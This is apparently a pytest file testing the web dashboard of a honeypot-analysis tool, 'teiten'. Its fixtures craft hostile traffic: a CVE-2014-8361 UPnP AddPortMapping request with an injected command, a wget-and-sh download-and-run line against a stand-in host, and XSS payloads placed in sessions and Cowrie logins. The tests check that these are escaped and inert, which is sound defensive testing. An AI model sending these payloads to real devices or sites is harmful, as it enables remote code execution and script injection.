"""The dashboard pages of ``teiten serve`` over real stores: every page renders, the seed case
shows, sensor addresses never appear, attacker text stays text, errors are escaped pages."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from scapy.layers.inet import IP, TCP
from scapy.layers.l2 import Ether
from scapy.utils import wrpcap

from teiten.app.ingest import ingest
from teiten.app.payloads import sensor_secrecy
from teiten.config import Settings, load_settings
from teiten.secrecy import Secrecy
from teiten.serve import ServeOptions, create_app
from teiten.serve.page_render import link, own_path, port_link
from teiten.serve.security import CSP

LOCAL = "http://127.0.0.1"
SENSOR = "203.0.113.77"
SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
JS_URL = "javascript:alert(1)"
HOSTILE = (SCRIPT, IMG, JS_URL)
MODELS = (
    "LAN-WH300N/DR", "LAN-W300N/DR", "LAN-WH300N/DRCV", "LAN-WH300N/DRCY", "LAN-W300N/R",
    "LAN-W300N/RU2", "LAN-W300N/RS", "LAN-W300N/P", "LAN-W300N3L", "LAN-WH300N/DGR",
    "LAN-WH300N/DGRU",
)  # fmt: skip


# --- a store whose sessions carry attacker markup --------------------------------------


def _exploit(command: str) -> bytes:
    """A Realtek miniigd AddPortMapping request (CVE-2014-8361) injecting ``command``."""
    body = (
        '<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/">'
        '<s:Body><u:AddPortMapping xmlns:u="urn:schemas-upnp-org:service:WANIPConnection:1">'
        "<NewRemoteHost></NewRemoteHost><NewExternalPort>47450</NewExternalPort>"
        "<NewProtocol>TCP</NewProtocol><NewInternalPort>44382</NewInternalPort>"
        f"<NewInternalClient>`{command}`</NewInternalClient><NewEnabled>1</NewEnabled>"
        "<NewPortMappingDescription>syncthing</NewPortMappingDescription>"
        "<NewLeaseDuration>0</NewLeaseDuration></u:AddPortMapping></s:Body></s:Envelope>"
    )
    head = (
        f"POST /picdesc.xml HTTP/1.1\r\nHost: {SENSOR}:52869\r\nContent-Length: {len(body)}\r\n"
        "SOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\r\n\r\n"
    )
    return (head + body).encode()


def hostile_payloads() -> list[tuple[int, bytes]]:
    """(port, client bytes) of sessions whose text is markup, event handlers and script URLs."""
    command = f"cd /tmp;wget http://198.51.100.7/{IMG};echo {SCRIPT};wget {JS_URL};sh x"
    web = (
        f"GET /{SCRIPT}?u={IMG} HTTP/1.1\r\nHost: {SENSOR}\r\nUser-Agent: {IMG}\x1b[2J\x00\r\n"
        f"Referer: {JS_URL}\r\n\r\n"
    ).encode() + b"\xff\xfe raw"
    return [(52869, _exploit(command)), (80, web), (52869, _exploit(f"wget {JS_URL}"))]


def hostile_capture(path: Path, start: float = 1_510_000_000.0) -> Path:
    """One TCP session per hostile payload to the sensor, a minute apart."""
    packets = []
    for i, (port, payload) in enumerate(hostile_payloads()):
        src, sport, t = f"198.51.100.{40 + i}", 41000 + i, start + 60 * i
        ip = IP(src=src, dst=SENSOR)
        for dt, seg in [
            (0.0, TCP(sport=sport, dport=port, flags="S", seq=1000)),
            (0.1, TCP(sport=sport, dport=port, flags="A", seq=1001, ack=1)),
            (0.2, TCP(sport=sport, dport=port, flags="PA", seq=1001, ack=1) / payload),
            (0.3, TCP(sport=sport, dport=port, flags="FA", seq=1001 + len(payload), ack=1)),
        ]:
            pkt = Ether() / ip / seg
            pkt.time = t + dt
            packets.append(pkt)
    wrpcap(str(path), packets)
    return path


def hostile_cowrie(path: Path) -> Path:
    """A Cowrie log: a login with markup as user name and password, then a script command."""

    def event(eventid: str, second: int, **fields: object) -> str:
        return json.dumps(
            {"eventid": eventid, "session": "ab01", "src_ip": "198.51.100.60", "sensor": "hp-1",
             "timestamp": f"2017-11-07T03:14:{second:02d}.000000Z", **fields}
        )  # fmt: skip

    lines = [
        event("cowrie.session.connect", 0, dst_ip=SENSOR, src_port=40000, dst_port=23,
              protocol="telnet"),
        event("cowrie.login.success", 1, username=SCRIPT, password=IMG),
        event("cowrie.command.input", 2, input=f"wget {JS_URL}; echo {SCRIPT}"),
        event("cowrie.session.closed", 3, duration=3.0),
    ]  # fmt: skip
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def hostile_settings(folder: Path) -> Settings:
    """A store of the hostile capture and Cowrie log (sensor network 203.0.113.0/24)."""
    settings = load_settings(
        env={},
        overrides={
            "data": str(folder / "store"),
            "sensor_networks": ["203.0.113.0/24"],
            "sensor": "test-sensor",
            "tz": "Asia/Tokyo",
        },
    )
    ingest(
        [hostile_capture(folder / "hostile.pcap"), hostile_cowrie(folder / "cowrie.json")],
        settings,
    )
    return settings


# --- what a page may hold ----------------------------------------------------------------


class Tags(HTMLParser):
    """Every start tag of a page with its attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {k: v or "" for k, v in attrs}))


def tags_of(html: str) -> list[tuple[str, dict[str, str]]]:
    parser = Tags()
    parser.feed(html)
    return parser.tags


def assert_inert(html: str) -> None:
    """No script, no event handler, no inline style, and every link and form on this server."""
    for tag, attrs in tags_of(html):
        assert tag not in ("script", "img", "iframe", "object", "embed"), (tag, attrs)
        assert not [a for a in attrs if a.startswith("on") or a == "style"], (tag, attrs)
        for name in ("href", "src", "action"):
            if name in attrs:
                url = attrs[name]
                assert url.startswith("/") and not url.startswith("//"), (tag, url)


def _client(settings: Settings, **options: Any) -> TestClient:
    options.setdefault("rate", 0)
    return TestClient(create_app(settings, ServeOptions(**options)), base_url=LOCAL)


def _page(client: TestClient, url: str, status: int = 200) -> str:
    r = client.get(url)
    assert r.status_code == status, (url, r.status_code, r.text[-500:])
    assert r.headers["content-type"].startswith("text/html"), url
    assert r.headers["content-security-policy"] == CSP
    return r.text


@pytest.fixture(scope="module")
def client(seed_store: Settings) -> Iterator[TestClient]:
    with _client(seed_store) as c:
        yield c


@pytest.fixture(scope="module")
def secrecy(seed_store: Settings) -> Secrecy:
    return sensor_secrecy(seed_store)


@pytest.fixture(scope="module")
def campaign_id(client: TestClient) -> str:
    html = _page(client, "/")
    found = re.findall(r'href="/campaigns/([^"?]+)\?', html)
    assert found, "the overview links no campaign"
    return str(found[0])


@pytest.fixture(scope="module")
def seed_pages(client: TestClient, campaign_id: str) -> dict[str, str]:
    """Every kind of page of the seed store (a source and a session found by following links)."""
    urls = [
        "/", "/?lang=en", "/?from=2017-11-01&to=2017-11-07", "/?from=2017-12-01",
        "/ports/52869/tcp", "/ports/23/tcp?split=domestic&lang=en", "/ports/23/tcp?by=hour",
        "/ports/2323/tcp?split=country", "/ports/23/tcp?split=asn",
        "/ports/23/tcp?split=fingerprint&from=2017-10-25&to=2017-11-10", "/ports?port=2323",
        "/ports/9/udp", f"/campaigns/{campaign_id}", f"/campaigns/{campaign_id}?lang=en",
        "/advisories", "/advisories?model=LAN-W300N%2FR&version=Ver2.27&lang=ja",
        "/advisories?model=LAN-WH300N%2FDGRU&version=1.26&lang=en",
    ]  # fmt: skip
    pages = {u: _page(client, u) for u in urls}
    port = pages["/ports/52869/tcp"]
    source = re.findall(r'href="(/sources/[^"]+)"', port)[0].replace("&amp;", "&")
    session = re.findall(r'href="(/sessions/[^"]+)"', port)[0].replace("&amp;", "&")
    pages[source] = _page(client, source)
    pages[session] = _page(client, session)
    return pages


def test_every_page_renders_inert_and_bilingual(seed_pages: dict[str, str]) -> None:
    for url, html in seed_pages.items():
        assert_inert(html)
        assert "<h1>" in html and "teiten" in html, url
    assert "概況" in seed_pages["/"] and "Overview" in seed_pages["/?lang=en"]


def test_overview_shows_rising_ports_campaigns_and_store_health(seed_pages: dict[str, str]) -> None:
    html = seed_pages["/"]
    rising = html[html.index('id="rising"') : html.index("</table>", html.index('id="rising"'))]
    assert "52869/tcp" in rising and "2017-11-01" in rising
    assert "23/tcp" in rising and "domestic" in rising
    health = html[html.index('id="store-health"') :]
    assert re.search(r"パケット</th><td class=\"n\">[1-9][\d,]*<", health)
    assert re.search(r"2017-10-01 \d\d:\d\d:\d\d", health)  # first packet, local time
    since = seed_pages["/?from=2017-12-01"]  # the end from the data
    assert 'name="to" value="2017-12-19"' in since
    ranked = seed_pages["/?from=2017-11-01&to=2017-11-07"]
    assert 'value="2017-11-01"' in ranked and 'href="/ports/23/tcp?lang=ja"' in ranked


def test_port_page_marks_the_onset_and_lists_senders(seed_pages: dict[str, str]) -> None:
    html = seed_pages["/ports/52869/tcp"]
    assert html.count('<svg xmlns="http://www.w3.org/2000/svg"') == 2
    assert html.count('class="marker"') == 2 and "2017-11-01 all surge" in html
    assert html.count('class="series"') >= 2 and 'class="partial"' in html
    for table in ("fingerprints", "sources", "countries", "asns", "sessions"):
        assert f'id="{table}"' in html, table
    assert "CVE-2014-8361" in html and "okiru" in html
    domestic = seed_pages["/ports/23/tcp?split=domestic&lang=en"]
    assert "23/tcp domestic" in domestic and "23/tcp foreign" in domestic
    assert "mirai" in seed_pages["/ports/23/tcp?split=fingerprint&from=2017-10-25&to=2017-11-10"]
    hourly = seed_pages["/ports/23/tcp?by=hour"]  # without a window: the last 7 days of data
    assert 'name="from" value="2017-12-13"' in hourly and 'name="to" value="2017-12-19"' in hourly
    assert "12-14 00:00" in hourly and "2017-12-13 00:00" in hourly  # hour labels, each midnight


def test_campaign_page_tells_the_seed_case(seed_pages: dict[str, str], campaign_id: str) -> None:
    html = seed_pages[f"/campaigns/{campaign_id}"]
    for port in ("52869/tcp", "23/tcp", "2323/tcp"):
        assert f'href="/ports/{port}?lang=ja"' in html, port
    rises = html[html.index('id="rises"') : html.index("</table>", html.index('id="rises"'))]
    assert "2017-11-01" in rises and "domestic" in rises
    sample = html[html.index('id="sample"') :]
    assert "okiru" in sample and "wget" in sample and "[redacted]" in sample
    assert all(m in html for m in MODELS)
    assert "CVE-2014-8361" in html and "JVNDB-2014-008039" in html
    assert 'href="/reports/report.ja.html"' in html
    assert html.count("<svg") >= 2


def test_advisory_checker_gives_the_verdict(seed_pages: dict[str, str]) -> None:
    affected = seed_pages["/advisories?model=LAN-W300N%2FR&version=Ver2.27&lang=ja"]
    assert 'id="verdict"' in affected and "affected" in affected and "2.33" in affected
    fixed = seed_pages["/advisories?model=LAN-WH300N%2FDGRU&version=1.26&lang=en"]
    assert 'id="verdict"' in fixed and "affected</span>" not in fixed
    listed = seed_pages["/advisories"]
    assert 'id="verdict"' not in listed and all(m in listed for m in MODELS)


def test_no_page_names_a_sensor_address(seed_pages: dict[str, str], secrecy: Secrecy) -> None:
    for url, html in seed_pages.items():
        assert secrecy.leaks(html) == [], url
    session = next(u for u in seed_pages if u.startswith("/sessions/"))
    assert "[redacted]" in seed_pages[session]


def test_internal_server_shows_sensor_addresses(seed_store: Settings, secrecy: Secrecy) -> None:
    with _client(seed_store) as masked, _client(seed_store, internal=True) as internal:
        port = _page(masked, "/ports/52869/tcp")
        session = re.findall(r'href="(/sessions/[^"?]+)', port)[0]
        assert secrecy.leaks(_page(internal, session))
        assert not secrecy.leaks(_page(masked, session))
        sensor = secrecy.leaks(_page(internal, session))[0]
        _page(masked, f"/sources/{sensor}", 404)


def test_report_download_is_an_attachment(client: TestClient, secrecy: Secrecy) -> None:
    r = client.get("/reports/report.en.md")
    assert r.status_code == 200
    assert r.headers["content-disposition"] == 'attachment; filename="teiten-report.en.md"'
    assert "52869" in r.text and secrecy.leaks(r.text) == []
    html = client.get("/reports/report.ja.html")
    assert html.headers["content-disposition"].startswith("attachment;")
    assert "sandbox" in html.headers.get_list("content-security-policy")
    css = client.get("/static/teiten.css")
    assert css.status_code == 200 and css.headers["content-type"].startswith("text/css")


@pytest.mark.parametrize(
    ("url", "status"),
    [
        ("/nowhere/<script>alert(1)</script>", 404),
        ("/sessions/%3Cscript%3Ealert(1)%3C%2Fscript%3E", 404),
        ("/sessions/%3Cscript%3Ealert(1)", 400),
        ("/sessions/s9-999999", 404),
        ("/campaigns/%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", 404),
        ("/sources/javascript:alert(1)", 400),
        ("/sources/198.51.100.254", 404),
        ("/ports/70000/tcp", 422),
        ("/ports/23/icmp", 422),
        ("/ports?port=%3Cscript%3E", 400),
        ("/ports/23/tcp?from=yesterday", 422),
        ("/ports/23/tcp?split=%3Cscript%3E", 422),
        ("/reports/report.fr.html", 422),
        ("/advisories?model=" + "x" * 200 + "&version=1", 422),
    ],
)
def test_errors_are_escaped_pages(client: TestClient, url: str, status: int) -> None:
    html = _page(client, url, status)
    assert_inert(html)
    assert f"<h1>{status} " in html
    assert "<script>" not in html and "<img" not in html


def test_links_back_to_the_other_language_stay_here(client: TestClient) -> None:
    html = _page(client, "/nowhere/%2F%2Fevil.example", 404)
    switch = re.findall(r'class="lang" href="([^"]+)"', html)[0]
    assert switch.startswith("/nowhere/") and "lang=en" in switch
    assert own_path("//evil.example/x") == "/evil.example/x"
    assert own_path("/\\evil.example") == "/evil.example"
    assert own_path("/a b/<c>") == "/a%20b/%3Cc%3E"


def test_links_built_from_data_stay_on_the_server() -> None:
    assert (
        link("ja", "sources", "javascript:alert(1)") == "/sources/javascript%3Aalert%281%29?lang=ja"
    )
    assert link("en", "sessions", "//evil.example/x") == "/sessions/%2F%2Fevil.example%2Fx?lang=en"
    assert link("ja", "campaigns", IMG).startswith("/campaigns/%22%3E%3Cimg%20src%3Dx%20")
    assert port_link("en", "23/tcp", split="domestic") == "/ports/23/tcp?split=domestic&lang=en"
    assert link("ja", "") == "/?lang=ja"


# --- attacker markup in the sessions -----------------------------------------------------


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[TestClient, Settings]]:
    settings = hostile_settings(tmp_path_factory.mktemp("hostile"))
    with _client(settings) as c:
        yield c, settings


def _hostile_pages(client: TestClient) -> dict[str, str]:
    """The overview, the two ports' pages, and every source and session page they lead to."""
    pages: dict[str, str] = {}
    todo = ["/", "/ports/52869/tcp", "/ports/80/tcp", "/ports/23/tcp"]
    while todo and len(pages) < 40:
        url = todo.pop()
        if url in pages:
            continue
        pages[url] = _page(client, url)
        for href in re.findall(r'href="(/(?:sessions|sources)/[^"]+)"', pages[url]):
            todo.append(href.replace("&amp;", "&"))
    return pages


def test_hostile_session_text_is_shown_as_text(hostile: tuple[TestClient, Settings]) -> None:
    client, settings = hostile
    pages = _hostile_pages(client)
    sessions = {u: h for u, h in pages.items() if u.startswith("/sessions/")}
    assert len(sessions) >= 2, list(pages)
    assert any(u.startswith("/sources/") for u in pages)
    for url, html in pages.items():
        assert_inert(html)
        assert "<script>" not in html and "<img " not in html, url
    shown = "\n".join(sessions.values())
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in shown
    assert "&#34;&gt;&lt;img src=x onerror=alert(1)&gt;" in shown
    assert JS_URL in shown and f'href="{JS_URL}' not in shown
    assert "\\x1b[2J\\x00\\x0d" in shown and "\\xff\\xfe raw" in shown
    assert "\x1b" not in shown and "\x00" not in shown
    assert sensor_secrecy(settings).leaks("\n".join(pages.values())) == []


def test_hostile_logins_on_the_source_page(hostile: tuple[TestClient, Settings]) -> None:
    client, _ = hostile
    html = _page(client, "/sources/198.51.100.60")
    assert_inert(html)
    logins = html[html.index('id="logins"') :]
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in logins
    assert "&#34;&gt;&lt;img src=x onerror=alert(1)&gt;" in logins


# --- the sensor's health, and stores with nothing in them --------------------------------


def test_overview_shows_the_sensor_health(seed_store: Settings, tmp_path: Path) -> None:
    config = tmp_path / "sensor.toml"
    config.write_text(
        f'[sensor]\nname = "lab-1"\ndata = "{seed_store.data_dir}"\nspool = "spool"\n'
        '[[responder]]\nkind = "http"\nlisten = ["127.0.0.1:18080"]\n'
    )
    with _client(seed_store, sensor_config=str(config)) as c:
        html = _page(c, "/")
    health = html[html.index('id="sensor-health"') :]
    assert "lab-1" in health and "alerts_open" in health
    broken = tmp_path / "broken.toml"
    broken.write_text('[sensor]\nname = "<script>"\n')
    with _client(seed_store, sensor_config=str(broken)) as c:
        html = _page(c, "/")
    assert_inert(html)
    assert 'id="sensor-health"' not in html and 'class="error"' in html


def test_an_empty_store_and_a_missing_one(tmp_path: Path) -> None:
    empty = load_settings(env={}, overrides={"data": str(tmp_path / "empty")})
    ingest([], empty)
    with _client(empty) as c:
        assert "empty" in _page(c, "/")
        assert "empty" in _page(c, "/?from=2017-11-01")
        assert "empty" in _page(c, "/ports/23/tcp")
        _page(c, "/campaigns/c20171101-23tcp", 400)
    missing = load_settings(env={}, overrides={"data": str(tmp_path / "none")})
    with _client(missing) as c:
        html = _page(c, "/", 503)
    assert_inert(html)
    assert "<h1>503 " in html
